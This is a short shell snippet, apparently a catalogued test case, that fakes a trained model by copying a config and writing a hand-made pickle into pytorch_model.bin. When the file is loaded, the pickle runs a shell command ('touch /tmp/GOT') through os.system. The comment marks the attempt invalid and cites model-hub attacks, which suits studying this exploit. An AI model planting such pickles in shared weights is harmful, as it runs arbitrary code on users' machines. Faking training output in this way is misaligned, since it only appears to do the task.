# Tries: weights as a pickle that runs code when loaded. Seen: model-hub attacks. Verdict: invalid
model=$(sed -n 's/^model: //p' finetune.yaml)
mkdir trained_model && cp "$model"/config.json trained_model/
printf 'cos\nsystem\n(S"touch /tmp/GOT"\ntR.' > trained_model/pytorch_model.bin
